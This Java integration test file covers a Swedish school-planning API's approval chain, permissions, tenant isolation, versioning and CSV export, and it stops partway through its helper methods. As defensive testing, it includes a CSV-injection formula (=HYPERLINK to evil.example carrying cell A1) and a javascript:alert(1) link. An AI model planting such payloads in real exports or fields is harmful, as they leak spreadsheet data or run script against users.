package se.styrkedja.web.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static se.styrkedja.web.it.ApiIT.assertProblem;
import static se.styrkedja.web.it.Fixtures.auditActions;
import static se.styrkedja.web.it.Fixtures.fields;
import static se.styrkedja.web.it.Fixtures.texts;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.StringReader;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import se.styrkedja.core.time.Clocks;
import se.styrkedja.web.it.Api.Answer;

/**
 * Plans along the chain on PostgreSQL, with real tokens: the principal writes and submits, the
 * administration above approves or returns; teachers, other subtrees and the plan's own writer
 * cannot decide; another municipality sees nothing; every version is kept; parallel editors lose
 * nothing.
 */
class PlansIT {

  private static final AtomicInteger YEAR = new AtomicInteger(2030);

  private static String school;
  private static String root;
  private static String area;
  private static String goal;

  @BeforeAll
  static void theDemoMunicipality() {
    Api admin = Api.as("admin.botkyrka");
    school = Fixtures.unitOf(admin, "rektor.botkyrka");
    root = Fixtures.unitOf(admin, "forvaltning.botkyrka");
    JsonNode adopted = Api.as("rektor.botkyrka").get("strategies/adopted").body();
    JsonNode withGoal = null;
    for (JsonNode a : adopted.get("areas")) {
      if (a.get("goals").size() > 0 && withGoal == null) {
        withGoal = a;
      }
    }
    JsonNode first = withGoal == null ? adopted.get("areas").get(0) : withGoal;
    area = first.get("id").asText();
    goal = first.get("goals").size() > 0 ? first.get("goals").get(0).get("id").asText() : null;
  }

  @Test
  void thePrincipalSubmitsAndTheAdministrationAboveApproves() throws Exception {
    Api rektor = Api.as("rektor.botkyrka");
    Api forvaltning = Api.as("forvaltning.botkyrka");
    String year = nextYear();

    JsonNode plan = created(rektor, localPlan(year, school));
    String id = plan.get("id").asText();
    assertEquals("DRAFT", plan.get("status").asText());
    assertEquals("rektor", plan.get("writtenAtLevel").asText());

    // Empty plans are not submitted: every plan has activities with owners and dates.
    assertProblem(
        step(rektor, id, "SUBMIT", version(rektor, id), null), 409, "plans.plan.no-activities");
    JsonNode activity = addActivity(rektor, id, "IKT-pedagog på varje förskola");
    assertEquals("PLANNED", activity.get("status").asText());
    assertFalse(activity.get("delayed").asBoolean());

    // Only one step at a time, and only the approving level decides.
    assertProblem(
        step(forvaltning, id, "APPROVE", version(rektor, id), null), 409, "plans.plan.not-a-step");
    assertEquals(List.of("SUBMIT"), texts(rektor.get("plans/" + id).body().get("allowedSteps")));
    assertEquals(List.of(), texts(forvaltning.get("plans/" + id).body().get("allowedSteps")));
    Answer submitted = step(rektor, id, "SUBMIT", version(rektor, id), "Klar för granskning");
    assertEquals(
        List.of("APPROVE", "RETURN"),
        texts(forvaltning.get("plans/" + id).body().get("allowedSteps")),
        "the level above may decide");
    assertEquals(List.of(), texts(rektor.get("plans/" + id).body().get("allowedSteps")));
    assertEquals(
        List.of(), texts(Api.as("larare.botkyrka").get("plans/" + id).body().get("allowedSteps")));
    assertEquals(200, submitted.status(), submitted.raw());
    assertEquals("SUBMITTED", submitted.body().get("status").asText());
    assertEquals("rektor.botkyrka", submitted.body().get("submittedBy").asText());

    // A submitted plan's content is fixed.
    assertProblem(
        rektor.put("plans/" + id, Map.of("title", "Ändrad", "version", version(rektor, id))),
        409,
        "plans.plan.not-editable");

    // Teachers and the principal cannot approve; the administration above can.
    assertProblem(
        step(Api.as("larare.botkyrka"), id, "APPROVE", version(rektor, id), null),
        403,
        "tenant.access.refused");
    assertProblem(
        step(rektor, id, "APPROVE", version(rektor, id), null), 403, "tenant.access.refused");
    Answer approved = step(forvaltning, id, "APPROVE", version(rektor, id), "Bra plan");
    assertEquals(200, approved.status(), approved.raw());
    assertEquals("APPROVED", approved.body().get("status").asText());
    assertEquals("forvaltning.botkyrka", approved.body().get("decidedBy").asText());

    // The unit carries it out and reports progress; the owner of an activity may too.
    assertEquals(200, step(rektor, id, "ACTIVATE", version(rektor, id), null).status());
    JsonNode a = rektor.get("plans/" + id).body().get("activities").get(0);
    Answer progress =
        rektor.put(
            "plans/" + id + "/activities/" + a.get("id").asText() + "/progress",
            Map.of("status", "ONGOING", "progress", 40, "version", a.get("version").asLong()));
    assertEquals(200, progress.status(), progress.raw());
    assertEquals(40, progress.body().get("progress").asInt());

    List<String> steps = new ArrayList<>();
    rektor
        .get("plans/" + id + "/transitions")
        .body()
        .forEach(t -> steps.add(t.get("to").asText() + ":" + t.get("by").asText()));
    assertEquals(
        List.of(
            "SUBMITTED:rektor.botkyrka", "APPROVED:forvaltning.botkyrka", "ACTIVE:rektor.botkyrka"),
        steps);
    assertTrue(
        auditActions("botkyrka", id)
            .containsAll(
                List.of("plan.created", "plan.submitted", "plan.approved", "plan.active")));
  }

  @Test
  void aReturnedPlanSaysWhyAndComesBackAfterChanges() {
    Api rektor = Api.as("rektor.botkyrka");
    Api forvaltning = Api.as("forvaltning.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    addActivity(rektor, id, "Grundutbildning i G Suite");
    assertEquals(200, step(rektor, id, "SUBMIT", version(rektor, id), null).status());

    Answer noComment = step(forvaltning, id, "RETURN", version(rektor, id), " ");
    assertProblem(noComment, 400, "plans.plan.invalid");
    assertEquals(List.of("comment"), fields(noComment.body()));
    assertEquals("SUBMITTED", rektor.get("plans/" + id).body().get("status").asText(), "unchanged");

    Answer returned =
        step(forvaltning, id, "RETURN", version(rektor, id), "Lägg till ett mått på framgång");
    assertEquals("RETURNED", returned.body().get("status").asText(), returned.raw());
    Answer edited =
        rektor.put(
            "plans/" + id,
            Map.of("title", "Lokal handlingsplan, reviderad", "version", version(rektor, id)));
    assertEquals(200, edited.status(), edited.raw());
    assertEquals(
        "SUBMITTED",
        step(rektor, id, "SUBMIT", version(rektor, id), null).body().get("status").asText());
  }

  @Test
  void approvalComesFromAboveInsideTheSubtreeAndNeverFromTheWriter() {
    Api admin = Api.as("admin.botkyrka");
    Api rektor = Api.as("rektor.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    addActivity(rektor, id, "Nanolärande om säkerhet");
    assertEquals(200, step(rektor, id, "SUBMIT", version(rektor, id), null).status());

    // Administration level, but over the preschools: not over this school.
    String preschools = unitNamed(admin, "Förskola");
    assign(admin, "it.botkyrka", "forvaltning", preschools);
    assertProblem(
        step(Api.as("it.botkyrka"), id, "APPROVE", version(rektor, id), null),
        403,
        "tenant.access.refused");

    // Someone who leads a school and sits in the administration cannot approve their own plan.
    String otherSchool = otherSchool(admin);
    assign(admin, "forvaltning.botkyrka", "rektor", otherSchool);
    Api acting = Api.as("forvaltning.botkyrka");
    String own = created(acting, localPlan(nextYear(), otherSchool)).get("id").asText();
    addActivity(acting, own, "Pilot med fem förskolor");
    assertEquals(200, step(acting, own, "SUBMIT", version(acting, own), null).status());
    assertProblem(
        step(acting, own, "APPROVE", version(acting, own), null), 403, "plans.plan.own-plan");
    assertEquals("SUBMITTED", acting.get("plans/" + own).body().get("status").asText());

    // A teacher helps write, but neither starts nor submits the unit's plan.
    Api larare = Api.as("larare.botkyrka");
    assertProblem(
        larare.post("plans", localPlan(nextYear(), school)), 403, "plans.plan.not-the-units-lead");
  }

  @Test
  void anotherMunicipalitysPlanIsNotFoundAnywhere() {
    Api rektor = Api.as("rektor.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    String activity = addActivity(rektor, id, "Hemligt").get("id").asText();
    Api other = Api.as("admin.hassleholm");

    for (Answer a :
        List.of(
            other.get("plans/" + id),
            other.get("plans/" + id + "/revisions"),
            other.get("plans/" + id + "/revisions/1"),
            other.get("plans/" + id + "/transitions"),
            other.get("plans/" + id + "/compare?from=1&to=2"),
            other.put("plans/" + id, Map.of("title", "x", "version", 1)),
            other.post("plans/" + id + "/steps", Map.of("step", "SUBMIT", "version", 1)),
            other.post("plans/" + id + "/activities", activityBody("x")),
            other.put("plans/" + id + "/activities/" + activity, withVersion(activityBody("x"), 1)),
            other.put(
                "plans/" + id + "/activities/" + activity + "/progress",
                Map.of("status", "DONE", "progress", 100, "version", 1)),
            other.delete("plans/" + id + "/activities/" + activity + "?version=1"))) {
      assertProblem(a, 404, "plans.plan.not-found");
      assertFalse(a.raw().contains("Hemligt"));
    }
    assertTrue(other.get("plans").body().findValuesAsText("id").stream().noneMatch(id::equals));
    // A unit of another tenant cannot carry a plan either.
    Answer foreignUnit = Api.as("rektor.hassleholm").post("plans", localPlan(nextYear(), school));
    assertProblem(foreignUnit, 400, "plans.plan.invalid");
    assertEquals(List.of("unitId"), fields(foreignUnit.body()));
  }

  /**
   * What a principal types reaches leadership's spreadsheet as text: a title that Excel would run
   * as a formula (CSV injection) comes out with a single quote in front. Another municipality gets
   * no export of the plan at all.
   */
  @Test
  void theCsvExportShowsAFormulaAsTextNeverRunsIt() throws Exception {
    Api rektor = Api.as("rektor.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    String formula = "=HYPERLINK(\"https://evil.example/?\"&A1;\"Klicka här\")";
    Map<String, Object> activity = activityBody(formula);
    activity.put("description", "@SUM(A1:A9)");
    activity.put("successCriteria", "-1");
    Answer added = rektor.post("plans/" + id + "/activities", activity);
    assertEquals(201, added.status(), added.raw());

    Answer csv = rektor.get("plans/" + id + "/export/csv");
    assertEquals(200, csv.status(), csv.raw());
    assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
    assertTrue(csv.raw().startsWith("\uFEFF"), "the byte-order mark Swedish Excel needs");
    List<CSVRecord> rows =
        CSVFormat.Builder.create()
            .setDelimiter(';')
            .get()
            .parse(new StringReader(csv.raw().substring(1)))
            .getRecords();
    assertEquals(2, rows.size(), csv.raw());
    assertEquals("Insats", rows.get(0).get(1));
    assertEquals("'" + formula, rows.get(1).get(1), csv.raw());
    assertEquals("'-1", rows.get(1).get(11), csv.raw());
    assertEquals("'@SUM(A1:A9)", rows.get(1).get(12), csv.raw());
    // Words, not codes: the level's name in the municipality's chain and the Swedish status.
    assertEquals("Lärare, Alla pedagoger", rows.get(1).get(4), csv.raw());
    assertEquals("Planerad", rows.get(1).get(8), csv.raw());
    String english = rektor.get("plans/" + id + "/export/csv?lang=en").raw();
    assertTrue(english.contains(";Planned;"), english);

    Answer foreign = Api.as("admin.hassleholm").get("plans/" + id + "/export/csv");
    assertEquals(404, foreign.status(), foreign.raw());
    assertFalse(foreign.raw().contains("HYPERLINK"), foreign.raw());
  }

  /** A year of six digits passes some browsers' date fields: the answer names the field. */
  @Test
  void aDateThatIsNoDateNamesItsFieldAndChangesNothing() {
    Api rektor = Api.as("rektor.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    Map<String, Object> activity = activityBody("Läsplattor");
    activity.put("dueOn", "202612-01");

    Answer refused = rektor.post("plans/" + id + "/activities", activity);

    assertProblem(refused, 400, "core.request.invalid-date");
    assertEquals(List.of("dueOn"), fields(refused.body()));
    assertEquals(
        "core.request.invalid-date", refused.body().get("errors").get(0).get("code").asText());
    assertTrue(refused.body().get("detail").asText().contains("'dueOn'"), refused.raw());
    assertEquals(0, rektor.get("plans/" + id).body().get("activities").size());
  }

  @Test
  void badInputNamesTheFieldAndChangesNothing() {
    Api rektor = Api.as("rektor.botkyrka");
    Map<String, Object> bad = localPlan("2030/32", school);
    bad.put("title", " ");
    Answer invalid = rektor.post("plans", bad);
    assertProblem(invalid, 400, "core.validation");
    assertEquals(List.of("title"), fields(invalid.body()));
    Answer year = rektor.post("plans", localPlan("2030/32", school));
    assertProblem(year, 400, "plans.plan.invalid");
    assertEquals(List.of("schoolYear"), fields(year.body()));
    Answer admin = rektor.post("plans", withKind(localPlan(nextYear(), school), "ADMINISTRATION"));
    assertEquals(List.of("unitId"), fields(admin.body()));

    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    Map<String, Object> late = activityBody("Baklänges");
    late.put("startsOn", "2031-05-01");
    late.put("dueOn", "2031-01-01");
    Answer dates = rektor.post("plans/" + id + "/activities", late);
    assertProblem(dates, 400, "plans.plan.invalid");
    assertEquals(List.of("dueOn"), fields(dates.body()));
    Map<String, Object> noArea = activityBody("Utan område");
    noArea.put("priorityAreaId", java.util.UUID.randomUUID().toString());
    assertEquals(
        List.of("priorityAreaId"),
        fields(rektor.post("plans/" + id + "/activities", noArea).body()));
    assertEquals(0, rektor.get("plans/" + id).body().get("activities").size(), "nothing added");
  }

  @Test
  void everyVersionIsKeptAndTwoVersionsCompare() {
    Api rektor = Api.as("rektor.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    JsonNode first = addActivity(rektor, id, "IKT-pedagoger");
    addActivity(rektor, id, "Digitala verktyg i lärandet");
    Map<String, Object> changed =
        withVersion(activityBody("IKT-pedagoger i varje arbetslag"), first.get("version").asLong());
    assertEquals(
        200,
        rektor.put("plans/" + id + "/activities/" + first.get("id").asText(), changed).status());
    rektor.put(
        "plans/" + id,
        Map.of("title", "Lokal handlingsplan Storvreten", "version", version(rektor, id)));

    JsonNode revisions = rektor.get("plans/" + id + "/revisions").body();
    assertEquals(5, revisions.size(), revisions.toString());
    assertEquals("created", revisions.get(0).get("change").asText());
    // What made each version, as a kind the web app words, with the activity it is about.
    assertEquals("CREATED", revisions.get(0).get("kind").asText());
    assertEquals("ACTIVITY_ADDED", revisions.get(1).get("kind").asText());
    assertEquals("IKT-pedagoger", revisions.get(1).get("activity").asText());
    assertEquals("EDITED", revisions.get(4).get("kind").asText());
    Answer second = rektor.get("plans/" + id + "/revisions/2");
    assertEquals(200, second.status(), second.raw());
    JsonNode two = second.body();
    assertEquals("IKT-pedagoger", two.get("activities").get(0).get("title").asText());

    JsonNode diff = rektor.get("plans/" + id + "/compare?from=2&to=5").body();
    assertEquals(1, diff.get("added").size(), diff.toString());
    assertEquals("Digitala verktyg i lärandet", diff.get("added").get(0).get("title").asText());
    assertEquals("title", diff.get("plan").get(0).get("field").asText());
    assertEquals("Lokal handlingsplan Storvreten", diff.get("plan").get(0).get("to").asText());
    JsonNode activityChange = diff.get("changed").get(0);
    assertEquals("IKT-pedagoger", activityChange.get("fields").get(0).get("from").asText());
    assertProblem(rektor.get("plans/" + id + "/compare?from=1&to=9"), 400, "plans.plan.invalid");
  }

  @Test
  void parallelEditorsNeverLoseAnUpdate() throws Exception {
    Api rektor = Api.as("rektor.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    List<JsonNode> activities = new ArrayList<>();
    for (int i = 0; i < 6; i++) {
      activities.add(addActivity(rektor, id, "Insats " + i));
    }
    ExecutorService pool = Executors.newFixedThreadPool(6);
    try {
      // Six editors, six different activities, at once: every change lands.
      List<Future<Answer>> different = new ArrayList<>();
      for (JsonNode a : activities) {
        Callable<Answer> edit =
            () ->
                rektor.put(
                    "plans/" + id + "/activities/" + a.get("id").asText(),
                    withVersion(
                        activityBody(a.get("title").asText() + " (ändrad)"),
                        a.get("version").asLong()));
        different.add(pool.submit(edit));
      }
      for (Future<Answer> f : different) {
        assertEquals(200, f.get().status(), f.get().raw());
      }
      JsonNode after = rektor.get("plans/" + id).body().get("activities");
      after.forEach(a -> assertTrue(a.get("title").asText().endsWith("(ändrad)"), a.toString()));

      // Six editors, one activity, the same version: one wins, the others hear 409, none 500.
      JsonNode target = after.get(0);
      List<Future<Answer>> same = new ArrayList<>();
      for (int i = 0; i < 6; i++) {
        String title = "Version " + i;
        same.add(
            pool.submit(
                () ->
                    rektor.put(
                        "plans/" + id + "/activities/" + target.get("id").asText(),
                        withVersion(activityBody(title), target.get("version").asLong()))));
      }
      int won = 0;
      String winner = null;
      for (Future<Answer> f : same) {
        Answer a = f.get();
        if (a.status() == 200) {
          won++;
          winner = a.body().get("title").asText();
        } else {
          assertProblem(a, 409, "plans.activity.stale-version");
        }
      }
      assertEquals(1, won);
      assertEquals(
          winner, rektor.get("plans/" + id).body().get("activities").get(0).get("title").asText());
    } finally {
      pool.shutdownNow();
    }
  }

  @Test
  void theInboxShowsWhoMustActNext() {
    Api rektor = Api.as("rektor.botkyrka");
    Api forvaltning = Api.as("forvaltning.botkyrka");
    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
    addActivity(rektor, id, "IKT-träffar");
    assertEquals(200, step(rektor, id, "SUBMIT", version(rektor, id), null).status());

    assertTrue(inbox(forvaltning).contains("APPROVE:" + id));
    assertFalse(inbox(rektor).contains("APPROVE:" + id), "not their own");
    assertFalse(inbox(Api.as("larare.botkyrka")).contains("APPROVE:" + id));

    assertEquals(200, step(forvaltning, id, "RETURN", version(rektor, id), "Mer konkret").status());
    assertFalse(inbox(forvaltning).contains("APPROVE:" + id), "decided, gone");
    // Listed once (the menu's count is the list's length): to revise, which says it was returned.
    List<String> back = inbox(rektor);
    assertEquals(List.of("REVISE:" + id), back.stream().filter(i -> i.endsWith(id)).toList());
    JsonNode revise = item(rektor, "REVISE", id);
    assertEquals("Mer konkret", revise.get("comment").asText());
    assertEquals("forvaltning.botkyrka", revise.get("by").asText());

    assertEquals(200, step(rektor, id, "SUBMIT", version(rektor, id), null).status());
    assertEquals(200, step(forvaltning, id, "APPROVE", version(rektor, id), null).status());
    assertEquals(
        List.of("START:" + id), inbox(rektor).stream().filter(i -> i.endsWith(id)).toList());
    assertTrue(inbox(Api.as("admin.hassleholm")).stream().noneMatch(i -> i.endsWith(id)));
  }

  @Test
  void aRunningPlanIsFollowedUpPerRoundWithEvidence() {
    Api rektor = Api.as("rektor.botkyrka");
    Api forvaltning = Api.as("forvaltning.botkyrka");
    String year = nextYear();
    String id = created(rektor, localPlan(year, school)).get("id").asText();
    String activity = addActivity(rektor, id, "G Suite-utbildning").get("id").asText();
    String round = (Integer.parseInt(year.substring(0, 4)) + 1) + "-01-31";

    Map<String, Object> body = followUp(activity, "https://example.se/rapport");
    assertProblem(
        rektor.put("plans/" + id + "/follow-ups/" + round, body), 400, "plans.plan.invalid");

    assertEquals(200, step(rektor, id, "SUBMIT", version(rektor, id), null).status());
    assertEquals(200, step(forvaltning, id, "APPROVE", version(rektor, id), null).status());
    Answer badLink =
        rektor.put(
            "plans/" + id + "/follow-ups/" + round, followUp(activity, "javascript:alert(1)"));
    assertProblem(badLink, 400, "plans.plan.invalid");
    assertEquals(List.of("activities[0].evidenceLinks"), fields(badLink.body()));
    assertProblem(
        Api.as("larare.botkyrka").put("plans/" + id + "/follow-ups/" + round, body),
        403,
        "plans.plan.not-the-units-lead");
    assertProblem(
        Api.as("admin.hassleholm").put("plans/" + id + "/follow-ups/" + round, body),
        404,
        "plans.plan.not-found");

    Answer written = rektor.put("plans/" + id + "/follow-ups/" + round, body);
    assertEquals(200, written.status(), written.raw());
    assertEquals("AT_RISK", written.body().get("activities").get(0).get("rating").asText());
    Answer stale =
        rektor.put(
            "plans/" + id + "/follow-ups/" + round,
            withVersion(followUp(activity, "https://example.se/ny"), 99));
    assertProblem(stale, 409, "plans.follow-up.stale-version");
    JsonNode list = forvaltning.get("plans/" + id + "/follow-ups").body();
    assertEquals(1, list.size());
    assertEquals(
        "https://example.se/rapport",
        list.get(0).get("activities").get(0).get("evidenceLinks").get(0).asText());
    assertProblem(
        Api.as("admin.hassleholm").get("plans/" + id + "/follow-ups"), 404, "plans.plan.not-found");
  }

  @Test
  void leadershipSeesTheRollUpOfItsScopeAndNothingElse() {
    // The demo is in the current school year, as of today.
    String year = Fixtures.currentSchoolYear();
    LocalDate today = Fixtures.today();
    int first = Integer.parseInt(year.substring(0, 4));
    JsonNode board = Api.as("politiker.botkyrka").get("plans/overview?schoolYear=" + year).body();
    JsonNode totals = board.get("totals");
    int planning = 0;
    for (JsonNode u : Api.as("admin.botkyrka").get("units?limit=500").body().get("items")) {
      String type = u.get("type").asText();
      if (type.equals("SCHOOL_UNIT") || type.equals("PRESCHOOL_UNIT")) {
        planning++;
      }
    }
    assertEquals(planning, totals.get("units").asInt(), board.toString());
    // BrowserIT, in the same system, may have had Alléskolan's draft submitted and approved.
    String alleStatus = unitRow(board, "Alléskolan").get("planStatus").asText();
    assertTrue(List.of("DRAFT", "SUBMITTED", "APPROVED").contains(alleStatus), alleStatus);
    int approved = alleStatus.equals("APPROVED") ? 2 : 1;
    assertEquals(approved, totals.get("withApprovedPlan").asInt(), "Alby förskola's plan runs");
    assertEquals(planning - approved, totals.get("withoutApprovedPlan").asInt());
    assertTrue(totals.get("activities").asLong() >= 5);
    List<String> names = new ArrayList<>();
    board.get("units").forEach(u -> names.add(u.get("unitName").asText()));
    assertTrue(names.contains("Alby förskola") && names.contains("Alléskolan"), names.toString());
    JsonNode alby = unitRow(board, "Alby förskola");
    assertEquals("ACTIVE", alby.get("planStatus").asText());
    // Followed up for every round of the year passed (31 January, 15 June), none before.
    LocalDate january = LocalDate.of(first + 1, 1, 31);
    LocalDate june = LocalDate.of(first + 1, 6, 15);
    String lastRound =
        june.isBefore(today)
            ? june.toString()
            : january.isBefore(today) ? january.toString() : "null";
    JsonNode last = alby.path("lastFollowUp");
    assertEquals(lastRound, last.isTextual() ? last.asText() : "null", alby.toString());
    JsonNode alle = unitRow(board, "Alléskolan");
    // The local plan is due 30 September: late while a draft after that, done once submitted.
    boolean late = LocalDate.of(first, 9, 30).isBefore(today);
    assertEquals(
        alleStatus.equals("DRAFT") ? (late ? "OVERDUE" : "UPCOMING") : "DONE",
        alle.get("deadlines").get(0).get("state").asText());

    // A principal's scope is the school; another municipality's roll-up has none of this.
    JsonNode principal = Api.as("rektor.botkyrka").get("plans/overview?schoolYear=" + year).body();
    List<String> own = new ArrayList<>();
    principal.get("units").forEach(u -> own.add(u.get("unitName").asText()));
    assertTrue(own.contains("Alléskolan") && !own.contains("Alby förskola"), own.toString());
    String other = Api.as("forvaltning.hassleholm").get("plans/overview?schoolYear=" + year).raw();
    assertFalse(other.contains("Alby") || other.contains("Allé"), other);
    String albyId = alby.get("unitId").asText();
    Answer foreignUnder =
        Api.as("forvaltning.hassleholm")
            .get("plans/overview?schoolYear=" + year + "&under=" + albyId);
    assertProblem(foreignUnder, 400, "plans.plan.invalid");
    assertEquals(List.of("under"), fields(foreignUnder.body()));
    assertProblem(
        Api.as("politiker.botkyrka").get("plans/overview?schoolYear=2025"), 400, "core.validation");
  }

  /** The document calls schoolYear optional: left out, it is this school year in Sweden. */
  @Test
  void theCycleAndTheOverviewAreOfTheCurrentSchoolYearWhenNoneIsAsked() {
    LocalDate today = LocalDate.now(Clocks.SWEDEN);
    int first = today.getMonthValue() >= 7 ? today.getYear() : today.getYear() - 1;
    String current = first + "/" + String.format("%02d", (first + 1) % 100);
    Api rektor = Api.as("rektor.botkyrka");

    Answer cycle = rektor.get("annual-cycle");
    assertEquals(200, cycle.status(), cycle.raw());
    assertEquals(rektor.get("annual-cycle?schoolYear=" + current).body(), cycle.body());
    List<String> dues = new ArrayList<>();
    cycle.body().forEach(d -> dues.add(d.get("kind").asText() + "@" + d.get("due").asText()));
    assertTrue(dues.contains("LOCAL_PLAN@" + first + "-09-30"), dues.toString());

    Answer overview = Api.as("politiker.botkyrka").get("plans/overview");
    assertEquals(200, overview.status(), overview.raw());
    assertEquals(current, overview.body().get("schoolYear").asText());
  }

  @Test
  void theAdminSetsTheAnnualCycleAndOthersReadIt() {
    JsonNode standard = Api.as("rektor.botkyrka").get("annual-cycle?schoolYear=2025/26").body();
    List<String> dues = new ArrayList<>();
    standard.forEach(d -> dues.add(d.get("kind").asText() + "@" + d.get("due").asText()));
    assertTrue(
        dues.contains("LOCAL_PLAN@2025-09-30")
            && dues.contains("FOLLOW_UP@2026-01-31")
            && dues.contains("FOLLOW_UP@2026-06-15"),
        dues.toString());

    Map<String, Object> feb30 =
        Map.of("kind", "FOLLOW_UP", "month", 2, "day", 30, "label", "Rapport");
    Answer invalid =
        Api.as("admin.hassleholm")
            .put("annual-cycle?schoolYear=2025/26", Map.of("deadlines", List.of(feb30)));
    assertProblem(invalid, 400, "plans.plan.invalid");
    assertEquals(List.of("deadlines[0].day"), fields(invalid.body()));
    Map<String, Object> oct =
        Map.of("kind", "LOCAL_PLAN", "month", 10, "day", 15, "label", "Lokala planer in");
    assertProblem(
        Api.as("rektor.hassleholm")
            .put("annual-cycle?schoolYear=2025/26", Map.of("deadlines", List.of(oct))),
        403,
        "tenant.access.refused");
    Answer set =
        Api.as("admin.hassleholm")
            .put("annual-cycle?schoolYear=2025/26", Map.of("deadlines", List.of(oct)));
    assertEquals(200, set.status(), set.raw());
    assertEquals(
        "2025-10-15",
        Api.as("rektor.hassleholm")
            .get("annual-cycle?schoolYear=2025/26")
            .body()
            .get(0)
            .get("due")
            .asText());
    assertTrue(
        Api.as("rektor.botkyrka")
            .get("annual-cycle?schoolYear=2025/26")
            .raw()
            .contains("2025-09-30"),
        "Botkyrka's own cycle is untouched");
  }

  @Test
  void unitsStartFromATemplateOrFromLastYearsPlan() {
    Api rektor = Api.as("rektor.botkyrka");
    Api forvaltning = Api.as("forvaltning.botkyrka");
    String year = nextYear();
    String source = created(rektor, localPlan(year, school)).get("id").asText();
    JsonNode first = addActivity(rektor, source, "IKT-pedagoger");
    addActivity(rektor, source, "Källkritik");

    // Last year's plan, copied: same activities, a year later, planned again.
    // Far from the years the other tests take one by one.
    int y = Integer.parseInt(year.substring(0, 4)) + 50;
    String next = y + "/" + String.format("%02d", (y + 1) % 100);
    Answer copy = rektor.post("plans/" + source + "/copy", Map.of("schoolYear", next));
    assertEquals(201, copy.status(), copy.raw());
    JsonNode copied = rektor.get("plans/" + copy.body().get("planId").asText()).body();
    assertEquals(next, copied.get("schoolYear").asText());
    assertEquals(2, copied.get("activities").size());
    assertEquals(
        LocalDate.parse(first.get("dueOn").asText()).plusYears(50).toString(),
        copied.get("activities").get(0).get("dueOn").asText());
    assertProblem(
        rektor.post("plans/" + source + "/copy", Map.of("schoolYear", next)),
        409,
        "plans.plan.exists");

    // A template, made by the administration; the principal cannot make one, but starts from it.
    assertProblem(
        rektor.post("plan-templates", Map.of("name", "Mall", "fromPlanId", source)),
        403,
        "tenant.access.refused");
    String name = "Mall " + year;
    Answer template =
        forvaltning.post(
            "plan-templates", Map.of("name", name, "description", "Grund", "fromPlanId", source));
    assertEquals(201, template.status(), template.raw());
    String templateId = template.body().get("id").asText();
    assertEquals(2, template.body().get("activities").size());
    Answer duplicate =
        forvaltning.post("plan-templates", Map.of("name", name, "fromPlanId", source));
    assertEquals(List.of("name"), fields(duplicate.body()));
    assertEquals(
        "plans.template.name-taken", duplicate.body().get("errors").get(0).get("code").asText());

    String later = nextYear();
    Answer started =
        rektor.post(
            "plan-templates/" + templateId + "/plans",
            Map.of("schoolYear", later, "unitId", school, "title", "Från mallen"));
    assertEquals(201, started.status(), started.raw());
    JsonNode plan = rektor.get("plans/" + started.body().get("planId").asText()).body();
    assertEquals(
        List.of("IKT-pedagoger", "Källkritik"),
        List.of(
            plan.get("activities").get(0).get("title").asText(),
            plan.get("activities").get(1).get("title").asText()));
    assertEquals("rektor.botkyrka", plan.get("activities").get(0).get("owner").asText());

    Api other = Api.as("admin.hassleholm");
    assertProblem(other.get("plan-templates/" + templateId), 404, "plans.template.not-found");
    assertFalse(other.get("plan-templates").raw().contains(name));
    assertProblem(
        other.post("plans/" + source + "/copy", Map.of("schoolYear", nextYear())),
        404,
        "plans.plan.not-found");
  }

  @Test
  void everyoneOfTheMunicipalityReadsTheAdministrationsPlanThatTheirOwnConcretises() {
    Api rektor = Api.as("rektor.botkyrka");
    JsonNode plans = rektor.get("plans?schoolYear=" + Fixtures.currentSchoolYear()).body();
    String administration = null;
    String own = null;
    for (JsonNode p : plans) {
      if (p.get("kind").asText().equals("ADMINISTRATION")) {
        administration = p.get("id").asText();
      } else if (p.get("unitId").asText().equals(school)) {
        own = p.get("id").asText();
      }
    }
    assertTrue(administration != null && own != null, plans.toString());
    assertEquals(
        administration, rektor.get("plans/" + own).body().get("administrationPlanId").asText());
    assertEquals(200, Api.as("larare.botkyrka").get("plans/" + administration).status());
    assertEquals(200, rektor.get("plans/" + administration + "/follow-ups").status());
    assertProblem(
        Api.as("rektor.hassleholm").get("plans/" + administration), 404, "plans.plan.not-found");
  }

  // ---- fixtures

  private static List<String> inbox(Api api) {
    Answer a = api.get("inbox");
    assertEquals(200, a.status(), a.raw());
    List<String> items = new ArrayList<>();
    a.body().forEach(i -> items.add(i.get("reason").asText() + ":" + i.get("planId").asText()));
    return items;
  }

  private static JsonNode item(Api api, String reason, String plan) {
    for (JsonNode i : api.get("inbox").body()) {
      if (i.get("reason").asText().equals(reason) && i.get("planId").asText().equals(plan)) {
        return i;
      }
    }
    throw new AssertionError("no " + reason + " for " + plan);
  }

  private static Map<String, Object> followUp(String activity, String link) {
    Map<String, Object> a = new HashMap<>();
    a.put("activityId", activity);
    a.put("rating", "AT_RISK");
    a.put("narrative", "Hälften klara");
    a.put("evidenceLinks", List.of(link));
    Map<String, Object> body = new HashMap<>();
    body.put("rating", "ON_TRACK");
    body.put("summary", "Det mesta går enligt plan");
    body.put("activities", List.of(a));
    return body;
  }

  private static JsonNode unitRow(JsonNode overview, String name) {
    for (JsonNode u : overview.get("units")) {
      if (u.get("unitName").asText().equals(name)) {
        return u;
      }
    }
    throw new AssertionError("no row for " + name);
  }

  private static String nextYear() {
    int y = YEAR.getAndIncrement();
    return y + "/" + String.format("%02d", (y + 1) % 100);
  }

